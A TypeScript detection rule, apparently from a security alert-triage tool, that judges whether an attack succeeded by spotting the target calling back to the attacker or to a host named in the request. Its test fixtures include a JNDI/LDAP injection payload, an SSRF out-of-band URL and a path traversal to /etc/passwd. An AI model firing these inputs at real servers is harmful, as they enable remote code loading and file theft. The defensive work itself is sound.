import { defineImpactTest, type Finding } from '../define.ts'
import { AT_ONCE, givesPower, laterThan, mayHaveWorked } from '../reading/attribution.ts'
import { callsOut, endText, isHousekeeping, targetCalled, type FlowSeen } from '../reading/flows.ts'
import { alerted, ATTACKER, conn, eveFlow } from '../reading/made-records.ts'
import { namedHosts } from '../reading/named-hosts.ts'
import { citesOf, eventsOf, isRecordOf, listOf, secondsText, textOf } from '../reading/values.ts'

/** Services call back by themselves: ident (RFC 1413), mail to who sent mail, data of active FTP (RFC 959, from port 20). */
const callsBackAnyway = ({ client, server }: FlowSeen): boolean =>
  server.port === 113 || server.port === 25 || client.port === 20 || server.port === 43

export default defineImpactTest({
  id: 'calls-back-attacker',
  family: 'next',
  title: { en: 'The target calls the attacker', ko: '표적이 공격자에게 연결' },
  reasoning: {
    en: 'A server answers those who call it; where it opens a connection to the attacker itself after the attack, what was sent to it ran.',
    ko: '서버는 요청에 응답할 뿐입니다. 공격 뒤 서버가 공격자에게 먼저 연결하면 전달된 코드가 실행된 것입니다.',
  },
  spec: 'https://attack.mitre.org/techniques/T1059/',
  appliesTo: 'Attacks on a service, where flows of the target were seen: to the attacker, or to a host that the request names.',
  reads: ['own', 'flow', 'after', 'exchanges', 'knownPeers', 'attackClass', 'attacker', 'target'],
  applies: (of) => of.target.ip !== null && of.attacker.ip !== null && !targetCalled(of),
  test(of) {
    const { attacker, target, knownPeers, isOurs, alert } = of
    const named = namedHosts(of)
    const lookups = eventsOf(of.flow, of.after).filter(
      (event) =>
        event.time >= alert.first &&
        ((event.type === 'dns' && textOf(event.fields, 'src.ip') === target.ip) ||
          (event.type === '22' && isRecordOf(event, target, of.asset?.name))),
    )
    // A name of the request is known by the address that its lookup gave.
    const told = new Set(named)
    for (const { type, fields } of eventsOf(of.after))
      if (type === 'dns' && named.has(textOf(fields, 'dns.query').toLowerCase()))
        for (const answer of listOf(fields, 'dns.answers')) told.add(answer.toLowerCase())
    const findings: Finding[] = []
    const open = mayHaveWorked(of)
    for (const call of callsOut(of)) {
      const byName = told.has(call.server.ip) && call.server.ip !== attacker.ip
      // What was refused called nobody: another attempt did. A host that only this request names was called by it.
      if (!byName && (call.server.ip !== attacker.ip || !open)) continue
      if (isHousekeeping(call) || callsBackAnyway(call) || knownPeers.has(call.server.ip)) continue
      // Inside, hosts use each other's services.
      const unusual = !isOurs(call.server.ip) || (call.server.port ?? 0) >= 1024
      const soon = byName || laterThan(of, call.begin) <= AT_ONCE
      const sure = givesPower(of) && call.transport === 'tcp' && unusual && call.answered === true && soon
      const tried = call.answered === false
      findings.push({
        result: sure ? 'succeeded' : 'likely',
        confidence: sure ? 0.95 : !givesPower(of) || !unusual ? 0.45 : call.transport !== 'tcp' || !soon ? 0.5 : 0.8,
        reason: {
          en: `${secondsText(call.begin - alert.first)} s after the attack ${target.ip} opened a connection to ${endText(call.server)}${byName ? ', which the request names' : ''}${tried ? ', without an answer' : ''}.`,
          ko: `공격 후 ${secondsText(call.begin - alert.first)}초 뒤 표적이 ${byName ? '요청에 적힌 주소로' : '공격자에게'} 연결했습니다${tried ? '(응답 없음)' : ''}. ${target.ip} → ${endText(call.server)}`,
        },
        cites: citesOf(call.events),
      })
    }
    const lookup = lookups.find(({ fields }) => {
      const name = textOf(fields, 'dns.query').toLowerCase()
      return named.has(name) && !knownPeers.has(name)
    })
    if (lookup !== undefined && givesPower(of))
      findings.push({
        result: 'succeeded',
        confidence: 0.92,
        reason: {
          en: `${target.ip} looked up ${textOf(lookup.fields, 'dns.query')}, a name that only the request gave it.`,
          ko: `표적이 공격 요청에 적힌 이름을 조회했습니다. 이름: ${textOf(lookup.fields, 'dns.query')}`,
        },
        cites: citesOf([lookup.id]),
      })
    const rank = ({ result, confidence }: Finding): number => (result === 'succeeded' ? 1 : 0) + confidence
    return findings.length === 0 ? null : findings.reduce((best, one) => (rank(one) > rank(best) ? one : best))
  },
  examples: [
    {
      name: 'a shell that connects back',
      of: { title: 'Command injection', own: [alerted(0)], after: [conn(8, { port: 4444, sent: 4000, received: 600 })] },
      expect: 'succeeded',
    },
    {
      name: 'a lookup of LDAP at the address that the request names',
      of: {
        title: 'JNDI lookup in header',
        own: [alerted(0, { 'http.user_agent': '${jndi:ldap://198.51.100.7:1389/a}' })],
        after: [conn(1, { to: '198.51.100.7', port: 1389 })],
      },
      expect: 'succeeded',
    },
    {
      name: 'a name that only the request gave is looked up',
      of: {
        title: 'Server side request forgery',
        exchanges: [{ url: '/fetch?u=http%3A%2F%2Fx91.oob.example%2Fa' }],
        after: [
          {
            at: 1,
            type: 'dns',
            fields: { 'src.ip': '10.1.2.3', 'dst.ip': '10.1.0.53', 'dst.port': 53, 'dns.query': 'x91.OOB.example' },
          },
        ],
      },
      expect: 'succeeded',
    },
    {
      name: 'it calls, and nobody answers',
      of: { title: 'Remote code execution', own: [alerted(0)], after: [eveFlow(30, { port: 9001, state: 'new' })] },
      expect: 'likely',
    },
    {
      name: 'every attempt was refused: another one made it call',
      of: {
        title: 'Path traversal',
        own: [alerted(0)],
        exchanges: [{ url: '/menu.php?c=../../../etc/passwd', status: 400 }],
        after: [conn(60, { port: 4444 })],
      },
      expect: null,
    },
    {
      name: 'the answers to the attack itself, as another sensor sees the flow',
      of: {
        title: 'Command injection',
        own: [alerted(0)],
        after: [conn(0, { from: ATTACKER, fromPort: 40_000, to: '10.1.2.3', port: 80 })],
      },
      expect: null,
    },
    {
      name: 'a flow that had begun before',
      of: { title: 'Command injection', own: [alerted(0)], after: [eveFlow(20, { port: 4444, seconds: 90 })] },
      expect: null,
    },
    {
      name: 'mail back to who sent mail, and ident',
      of: {
        title: 'Exploit against the mail server',
        port: 25,
        own: [alerted(0, { 'dst.port': 25 })],
        after: [conn(5, { port: 25 }), conn(6, { port: 113, state: 'REJ' })],
      },
      expect: null,
    },
    {
      name: 'a management host that it calls every day',
      of: {
        title: 'Remote code execution',
        attacker: '10.1.0.9',
        own: [alerted(0, { 'src.ip': '10.1.0.9' })],
        after: [conn(5, { to: '10.1.0.9', port: 4505 })],
        knownPeers: ['10.1.0.9'],
      },
      expect: null,
    },
    {
      name: 'a browser goes on with the site that the alert is about',
      of: {
        title: 'Exploit kit landing page',
        own: [alertedOutLike()],
        after: [conn(5, { port: 443 })],
      },
      expect: null,
    },
  ],
})

function alertedOutLike(): ReturnType<typeof alerted> {
  return alerted(0, {
    'src.ip': ATTACKER,
    'src.port': 80,
    'dst.ip': '10.1.2.3',
    'dst.port': 40_123,
    'net.direction': 'to_client',
  })
}
